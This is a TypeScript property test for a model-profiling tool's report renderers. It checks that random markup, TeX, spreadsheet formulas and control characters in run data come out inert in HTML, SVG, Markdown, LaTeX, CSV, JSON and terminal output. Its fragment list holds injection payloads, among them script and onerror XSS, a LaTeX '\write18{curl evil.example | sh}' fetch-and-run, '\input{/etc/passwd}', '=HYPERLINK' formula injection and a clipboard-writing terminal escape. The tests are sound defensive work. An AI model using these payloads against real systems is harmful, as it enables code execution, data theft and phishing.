// Every report format escapes every string a run folder gives it (a property test): runs whose
// every string field (run id, model, ability, benchmark and filter names, reasons, notes, labels,
// paths, flipped documents' targets, answers and generations) is random markup, TeX and control
// characters are rendered in every format and against the same run with plain names, and nothing
// of the data acts where it lands: HTML and SVG have exactly the plain run's tags and attributes,
// Markdown its lines, table columns and markup characters, LaTeX its lines, commands and special
// characters, CSV its records and no formula; no format prints a control character a terminal
// would act on. Seeded (base/random.ts): a failure names its seed and reproduces.
import assert from "node:assert/strict";
import { promises as fs } from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { after, test } from "node:test";
import { parse as parseCsv } from "csv-parse/sync";
import { formatAisTables, formatBaseline, formatRunSummary } from "../../../src/cli/aisTable";
import { randomInt, seededRandom } from "../../../src/core/base/random";
import { modelFolderName } from "../../../src/core/config/modelFolder";
import { compareProfiles } from "../../../src/core/report/compare";
import { COMPARE_FORMATS, renderComparison } from "../../../src/core/report/compareFormats";
import { heatmapSvg } from "../../../src/core/report/svg";
import { REPORT_FORMATS, renderReport, type ReportFormat } from "../../../src/core/report/index";
import { loadRun, type LoadedRun } from "../../../src/core/report/load";
import { buildReport, rulesOf } from "../../../src/core/report/model";
import { profilesOf, type PairCell, type Results } from "../../../src/core/results/schema";
import { aisCell, oneModelResults, topSetsProfile, topVariant } from "../../support/profileResults";
import {
  AT_CHANCE,
  CAUSAL,
  fixtureResults,
  MODEL,
  MODEL_FOLDER,
  QUANT,
  SPATIAL,
  withChunkedTopSets,
  withSignedRule,
  withStability,
  writeFixtureRun,
} from "../../support/reportFixture";

/** What data may hold to do harm where a report prints it. */
const FRAGMENTS = [
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  "<form action=https://evil.example><input name=q></form>",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  `"'&amp;&`,
  '" onmouseover="alert(1)',
  "\\input{/etc/passwd}",
  "\\write18{curl evil.example | sh}",
  "\\def\\x{y}\\x",
  "$x^2$",
  "% comment",
  "{}",
  "^^5c",
  "~",
  "#_&",
  "| --- |",
  "**bold** _em_ `code`",
  "[link](javascript:alert(1))",
  "![img](https://evil.example/x.png)",
  '=HYPERLINK("https://evil.example")',
  "+1",
  "-2+3",
  "@SUM(A1)",
  "\x1b[31m",
  "\x1b]52;c;ZXZpbA==\x07",
  "\x1b]0;title\x1b\\",
  "\u009b2J",
  "\r",
  "\n",
  "\r\n\r\n",
  "\x07",
  "\x00",
  "\x7f",
  "\u2028",
  "\u2029",
  "\t",
];

/** A random hostile string: one to four fragments, with letters between them. */
function hostileText(rand: () => number): string {
  const parts: string[] = [];
  const n = 1 + randomInt(rand, 4);
  for (let i = 0; i < n; i++) {
    parts.push(FRAGMENTS[randomInt(rand, FRAGMENTS.length)]!);
    if (rand() < 0.5) parts.push("abc".slice(0, 1 + randomInt(rand, 3)));
  }
  return parts.join("");
}

/** Names by key: the same key gives the same name, different keys different names. */
type Names = (key: string) => string;

function hostileNames(seed: number): Names {
  const rand = seededRandom(seed);
  const made = new Map<string, string>();
  return (key) => {
    // the key's number keeps two hostile names apart
    if (!made.has(key)) made.set(key, `${hostileText(rand)} ${made.size}`);
    return made.get(key)!;
  };
}

function plainNames(): Names {
  const made = new Map<string, string>();
  return (key) => {
    if (!made.has(key)) made.set(key, `name${made.size}`);
    return made.get(key)!;
  };
}

/** `value` with every string equal to a key of `renamed` replaced by its name. */
function renamedDeep<T>(value: T, renamed: ReadonlyMap<string, string>): T {
  if (typeof value === "string") return (renamed.get(value) ?? value) as T;
  if (Array.isArray(value)) return value.map((v) => renamedDeep(v, renamed)) as T;
  if (typeof value === "object" && value !== null)
    return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, renamedDeep(v, renamed)])) as T;
  return value;
}

const pairCell = (ais: number, interference: number): PairCell => ({
  ais,
  ci: { low: ais - 0.1, high: ais + 0.1, confidence: 0.95 },
  interference,
  interference_ci: { low: interference - 0.05, high: interference + 0.05, confidence: 0.95 },
  significant: true,
});

/**
 * The report fixture (reportFixture.ts) with every part a report prints: chunked top sets,
 * stability, the signed rule, labels and `expects`, a second diagnostic set, fluency, a pair, a
 * note and reasons; logiqa generated (its negative cells list generated documents, from
 * flips.jsonl). Every string a report prints is `names(key)`.
 */
function everyPart(names: Names): Results {
  const base = withSignedRule(withChunkedTopSets(withStability(fixtureResults())));
  const results = renamedDeep(
    base,
    new Map([
      [CAUSAL, names("ability causal")],
      [QUANT, names("ability quant")],
      [SPATIAL, names("ability spatial")],
      ["arc_easy", names("benchmark arc")],
      ["logiqa", names("benchmark logiqa")],
      [AT_CHANCE, names("reason at chance")],
      [MODEL, names("model")],
    ]),
  );
  Object.assign(results, {
    created: names("created"),
    config_file: names("config file"),
    runner_version: names("runner version"),
    target: names("target"),
  });
  const model = results.models[0]!;
  Object.assign(model, {
    path: names("model path"),
    dtype: names("dtype"),
    special_tokens: { before: [1], after: [2], source: "tokenizer" },
  });
  const [arc, logiqa] = model.benchmarks as unknown as [Record<string, unknown>, Record<string, unknown>];
  Object.assign(arc, {
    task_file: names("task file arc"),
    data_file: names("data file"),
    data_sha256: names("sha"),
    ability: names("ability causal"),
    expects: [{ ability: names("ability quant"), weight: 0.6 }, { ability: names("ability causal") }],
  });
  // logiqa generated: its cells are exact_match, its filters named
  const [first, second] = [names("filter first"), names("filter second")];
  delete logiqa.acc;
  delete logiqa.acc_norm;
  Object.assign(logiqa, {
    task_file: names("task file logiqa"),
    output_type: "generate_until",
    exact_match: 0.75,
    filter: first,
    exact_match_by_filter: { [first]: 0.75, [second]: 0.5 },
    chance: 0,
    scored_by: names("scorer"),
  });
  for (const profile of profilesOf(model)) {
    profile.abilities[2]!.of = names("ability causal");
    profile.fluency = { text: names("fluency text"), tokens: 100, loglik_per_token: -2.5, perplexity: 12.18, max_perplexity_ratio: 2 };
    for (const [i, v] of profile.variants.entries()) {
      const ratio = i === 1 ? 3 : 1.1;
      v.fluency = { loglik_per_token: -2.6, perplexity: 12.18 * ratio, perplexity_ratio: ratio, fluent: ratio <= 2 };
      const [, cells] = v.benchmarks as unknown as [unknown, Record<string, unknown>];
      cells.exact_match = cells.acc;
      delete cells.acc;
      delete cells.acc_norm;
    }
    const causalTop = profile.variants.find((v) => v.ability === names("ability causal") && v.selection === "top" && v.k === 0.01)!;
    causalTop.benchmarks[0]!.acc!.note = names("note");
    const quantTop = profile.variants.find((v) => v.ability === names("ability quant") && v.selection === "top" && v.k === 0.01)!;
    quantTop.benchmarks[0]!.acc!.specificity = { value: null, reason: names("reason specificity"), ci: null, significant: false };
  }
  const profile = model.profile!;
  profile.pairs = [
    {
      abilities: [names("ability causal"), names("ability quant")],
      ability_ids: ["commonsense-and-causal-reasoning", "quantitative-reasoning-50"],
      k: 0.01,
      n: 1900,
      scores_file: "runner/pairs/p.jsonl",
      items_file: "pairs/p.items.jsonl",
      benchmarks: [
        { name: names("benchmark arc"), acc: pairCell(0.6, 0.1), acc_norm: pairCell(0.2, -0.1) },
        { name: names("benchmark logiqa"), exact_match: pairCell(-0.5, 0.2) },
      ],
    },
  ];
  return results;
}

const jsonl = (rows: readonly unknown[]) => rows.map((r) => JSON.stringify(r)).join("\n") + "\n";

/** A run folder written for a test, and the temporary folder to remove after it. */
interface RunFolder {
  dir: string;
  root: string;
}

/** The run folder of everyPart: its items files' benchmarks renamed (logiqa's generated), a flips.jsonl of hostile generations. */
async function writeEveryPart(names: Names): Promise<RunFolder> {
  const results = everyPart(names);
  const runId = names("run id");
  const dir = await writeFixtureRun({ ...results, run_id: "20260101-120000-abcd" });
  await fs.writeFile(path.join(dir, "results.json"), JSON.stringify({ ...results, run_id: runId }));
  const folder = path.join(dir, "models", modelFolderName(results.models[0]!.name));
  if (folder !== path.join(dir, "models", MODEL_FOLDER)) await fs.rename(path.join(dir, "models", MODEL_FOLDER), folder);
  const files = ["items.jsonl", ...new Set(profilesOf(results.models[0]!).flatMap((p) => p.variants.map((v) => v.items_file)))];
  for (const file of files) {
    const text = await fs.readFile(path.join(folder, file), "utf8");
    const items = text
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line) as { benchmark: string; index: number; target: number; prediction: number });
    const lines = items.map((item) =>
      item.benchmark === "arc_easy"
        ? { ...item, benchmark: names("benchmark arc") }
        : {
            kind: "generate_until",
            benchmark: names("benchmark logiqa"),
            index: item.index,
            target: names("target"),
            answer: item.prediction === item.target ? names("target") : names("answer"),
            correct: item.prediction === item.target,
            response: names("response"),
            generation: names("generation"),
            tokens: [1, 2],
            stopped: true,
            filters: [{ name: names("filter first"), answer: names("answer"), correct: false }],
          },
    );
    await fs.writeFile(path.join(folder, file), jsonl(lines));
  }
  // every negative cell's flipped documents, as a finished run records them
  const flips = profilesOf(results.models[0]!).flatMap((p) =>
    p.variants.flatMap((v) =>
      v.benchmarks.flatMap((b) =>
        (["acc", "acc_norm", "exact_match"] as const)
          .filter((metric) => (b[metric]?.ais ?? 0) < 0)
          .map((metric) => ({
            variant: v.items_file,
            benchmark: b.name,
            metric,
            kind: "generate_until",
            index: 13,
            direction: "wrong_to_right",
            target: names("target"),
            baselineAnswer: names("answer"),
            ablatedAnswer: names("target"),
            baselineResponse: names("response"),
            ablatedResponse: names("generation"),
          })),
      ),
    ),
  );
  assert.ok(flips.length > 0, "the run has negative cells with documents");
  await fs.writeFile(path.join(folder, "flips.jsonl"), jsonl(flips));
  return { dir, root: path.dirname(path.dirname(dir)) };
}

/**
 * A second run from profileResults.ts: one model of hostile name, hostile abilities (two of
 * them the same AIS on every benchmark, which the failure signatures name) and benchmarks, labels.
 */
async function writeOneModelRun(names: Names): Promise<RunFolder> {
  const benchmarks = [0, 1, 2, 3].map((b) => names(`one-model benchmark ${b}`));
  const abilities = [0, 1, 2].map((a) => names(`one-model ability ${a}`));
  const results = oneModelResults({
    benchmarks,
    baseline: { items: 40, acc: 0.8, acc_norm: 0.7, chance: 0.25 },
    model: names("one-model model"),
    path: names("one-model path"),
    labels: new Map([[benchmarks[0]!, abilities[1]!]]),
    run: { run_id: names("one-model run id"), created: names("one-model created") },
    profile: {
      ...topSetsProfile(),
      abilities: abilities.map((name, a) => ({ name, id: `a${a}`, sequences: 10 + a })),
      variants: abilities.map((ability, a) =>
        topVariant(
          ability,
          a,
          benchmarks.map((name, b) => ({ name, acc: aisCell(a === 2 ? 0.3 : (a - b) / 10), acc_norm: aisCell(0.05 * b) })),
        ),
      ),
    },
  });
  const root = await fs.mkdtemp(path.join(os.tmpdir(), "bprof-escaping-"));
  await fs.writeFile(path.join(root, "results.json"), JSON.stringify(results));
  return { dir: root, root };
}

// ---------------------------------------------------------------------------------------------
// What must not survive

/** C0 and C1 controls, DEL, and the line and paragraph separators: what a terminal or a parser acts on. */
// eslint-disable-next-line no-control-regex -- these are the characters it finds
const CONTROL = /[\u0000-\u001f\u007f-\u009f\u2028\u2029]/u;

function assertNoControls(text: string, allowed: string, where: string): void {
  for (const [i, c] of [...text].entries()) {
    if (CONTROL.test(c) && !allowed.includes(c))
      assert.fail(
        `${where}: U+${c.codePointAt(0)!.toString(16).padStart(4, "0")} printed raw near ${JSON.stringify([...text].slice(Math.max(0, i - 40), i + 10).join(""))}`,
      );
  }
}

/** Each tag of an HTML or SVG text, its quoted attribute values left out: what a page is made of. */
function tagSkeleton(html: string): string[] {
  return [...html.matchAll(/<\/?[A-Za-z!][^>]*>/g)].map((m) => m[0].replace(/"[^"]*"/g, '""'));
}

/** How many times `c` occurs in `line` not escaped by a backslash (an odd run of them). */
function unescapedCount(line: string, c: string): number {
  let count = 0;
  let backslashes = 0;
  for (const ch of line) {
    if (ch === c && backslashes % 2 === 0) count++;
    backslashes = ch === "\\" ? backslashes + 1 : 0;
  }
  return count;
}

function assertMarkdownInert(hostile: string, plain: string, where: string): void {
  assertNoControls(hostile, "\n", where);
  const [h, p] = [hostile.split("\n"), plain.split("\n")];
  assert.equal(h.length, p.length, `${where}: a name added or removed a line`);
  h.forEach((line, i) => {
    for (const c of ["|", "[", "]", "<", ">", "`", "*", "_", "#", "~"])
      assert.equal(unescapedCount(line, c), unescapedCount(p[i]!, c), `${where}, line ${i + 1}: a raw \`${c}\` from data: ${line}`);
    assert.doesNotMatch(line, /(^|[^\\])<[A-Za-z/!?]/, `${where}, line ${i + 1}: raw HTML`);
  });
}

/** LaTeX's escapes of the characters it has no key for, which data may bring in any number. */
const LATEX_ESCAPES = /\\(textbackslash|textasciitilde|textasciicircum|textless|textgreater|textbar)\{\}/g;

function assertLatexInert(hostile: string, plain: string, where: string): void {
  assertNoControls(hostile, "\n\t", where);
  const [h, p] = [hostile.split("\n"), plain.split("\n")];
  assert.equal(h.length, p.length, `${where}: a name added or removed a line`);
  const commands = (line: string) => [...line.matchAll(/\\([A-Za-z]+|.)/g)].map((m) => m[1]!).sort();
  h.forEach((raw, i) => {
    const line = raw.replace(LATEX_ESCAPES, "");
    // data's specials are escaped (\& \% \$ \# \_ \{ \}): what is left is the plain run's own
    const own = commands(line).filter((c) => !"&%$#_{}".includes(c));
    assert.deepEqual(
      own,
      commands(p[i]!).filter((c) => !"&%$#_{}".includes(c)),
      `${where}, line ${i + 1}: a command from data: ${raw}`,
    );
    for (const c of ["%", "$", "&", "#", "{", "}", "^", "_", "~"])
      assert.equal(unescapedCount(line, c), unescapedCount(p[i]!, c), `${where}, line ${i + 1}: a raw \`${c}\` from data: ${raw}`);
  });
}

function assertHtmlInert(hostile: string, plain: string, where: string): void {
  assertNoControls(hostile, "\n\t", where);
  assert.deepEqual(tagSkeleton(hostile), tagSkeleton(plain), `${where}: the page's tags or attributes changed`);
  assert.doesNotMatch(hostile, /<meta http-equiv=refresh|<form|<script>alert|<img src=x|onmouseover="alert/i, where);
}

function assertCsvInert(hostile: string, plain: string, where: string): void {
  assertNoControls(hostile, "\t\r\n", where);
  const [h, p] = [parseCsv(hostile) as string[][], parseCsv(plain) as string[][]];
  assert.equal(h.length, p.length, `${where}: a name added a record`);
  h.forEach((record, r) => {
    assert.equal(record.length, p[r]!.length, `${where}, record ${r + 1}: a name added a field`);
    for (const field of record) {
      assert.doesNotMatch(field, /^[=+@\t\r]/, `${where}, record ${r + 1}: a formula from data: ${field}`);
      if (field.startsWith("-")) assert.ok(Number.isFinite(Number(field)), `${where}, record ${r + 1}: a formula from data: ${field}`);
    }
  });
}

function assertJsonInert(hostile: string, where: string): unknown {
  assertNoControls(hostile, "\n", where);
  return JSON.parse(hostile);
}

function assertTerminalInert(hostile: string, plain: string, where: string): void {
  assertNoControls(hostile, "\n", where);
  assert.equal(hostile.split("\n").length, plain.split("\n").length, `${where}: a name added or removed a line`);
}

const SCRIPT = "/* the heatmap bundle */";

function assertInert(format: ReportFormat, hostile: string, plain: string, where: string): void {
  switch (format) {
    case "html":
      return assertHtmlInert(hostile, plain, where);
    case "md":
      return assertMarkdownInert(hostile, plain, where);
    case "latex":
      return assertLatexInert(hostile, plain, where);
    case "csv":
      return assertCsvInert(hostile, plain, where);
    case "json":
      assertJsonInert(hostile, where);
  }
}

/** Every text the run makes: each report format, each heatmap as SVG, the terminal's tables, and the comparison of the run with itself. */
async function everyText(
  run: LoadedRun,
  compare: boolean,
): Promise<Map<string, { format: ReportFormat | "svg" | "terminal"; text: string }>> {
  const out = new Map<string, { format: ReportFormat | "svg" | "terminal"; text: string }>();
  for (const format of REPORT_FORMATS)
    out.set(`report ${format}`, { format, text: (await renderReport(run, { format, script: SCRIPT })).text });
  const report = await buildReport(run);
  for (const model of report.models) {
    for (const [r, rule] of rulesOf(model).entries())
      for (const [s, section] of rule.sections.entries()) {
        const theme = { text: "#000", muted: "#555", background: "#fff", fontFamily: 'Helvetica, "Liberation Sans"' };
        out.set(`svg ${r}.${s}`, { format: "svg", text: heatmapSvg(section.heatmap, theme) });
      }
    const baseline = model.baseline.map((b) => formatBaseline(b)).join("\n");
    out.set("terminal", { format: "terminal", text: [baseline, formatAisTables(model), ...formatRunSummary(model)].join("\n") });
    // fitted to a terminal's width, longer names wrap to more lines: only what it prints is checked
    out.set("terminal, 80 columns", { format: "terminal", text: [formatAisTables(model, 80), ...formatRunSummary(model, 80)].join("\n") });
  }
  if (compare) {
    const comparison = await compareProfiles({ run }, { run });
    for (const format of COMPARE_FORMATS)
      out.set(`compare ${format}`, { format, text: renderComparison(comparison, format, { script: SCRIPT }) });
  }
  return out;
}

const folders: string[] = [];
after(() => Promise.all(folders.map((f) => fs.rm(f, { recursive: true, force: true }))));

/** Renders a run of hostile names and the same run of plain ones, and checks every text against the plain one's. */
async function checkRun(seed: number, write: (names: Names) => Promise<RunFolder>, compare: boolean): Promise<void> {
  const [hostileRun, plainRun] = [await write(hostileNames(seed)), await write(plainNames())];
  folders.push(hostileRun.root, plainRun.root);
  const hostile = await everyText(await loadRun(hostileRun.dir), compare);
  const plain = await everyText(await loadRun(plainRun.dir), compare);
  for (const [what, { format, text }] of hostile) {
    const where = `seed ${seed}, ${what}`;
    const plainText = plain.get(what)?.text;
    assert.ok(plainText !== undefined, `${where}: the plain run has it too`);
    if (format === "svg") assertHtmlInert(text, plainText, where);
    else if (what === "terminal, 80 columns") assertNoControls(text, "\n", where);
    else if (format === "terminal") assertTerminalInert(text, plainText, where);
    else assertInert(format, text, plainText, where);
  }
}

const SEEDS = Array.from({ length: 8 }, (_, i) => 1000 + i);

test("every string of a run, random markup, TeX and control characters, is inert in every report format, the SVG, the terminal and the comparison", async () => {
  for (const seed of SEEDS) await checkRun(seed, writeEveryPart, true);
});

test("the hostile strings reach the reports: they are escaped, not dropped", async () => {
  const names = hostileNames(7);
  const { dir, root } = await writeEveryPart(names);
  folders.push(root);
  const run = await loadRun(dir);
  const json = JSON.parse((await renderReport(run, { format: "json" })).text) as {
    run: { id: string };
    models: { name: string }[];
    flipped_documents: { target: string }[];
  };
  // JSON keeps them exactly (escaped as JSON escapes)
  assert.equal(json.run.id, names("run id"));
  assert.equal(json.models[0]!.name, names("model"));
  assert.ok(json.flipped_documents.length > 0 && json.flipped_documents.every((d) => d.target === names("target")));
  // the Markdown and HTML list the flipped documents' generations
  const md = (await renderReport(run, { format: "md" })).text;
  assert.ok(md.includes("Flipped documents of cells with a negative AIS"), "the documents are listed");
  const html = (await renderReport(run, { format: "html", script: SCRIPT })).text;
  assert.ok((html.match(/<span class="gen">/g) ?? []).length >= 5, "the generations are listed");
});

test("a run made with profileResults.ts's builders, its names hostile: inert in every format and the terminal", async () => {
  for (const seed of SEEDS.slice(0, 4)) await checkRun(seed + 50, writeOneModelRun, false);
});
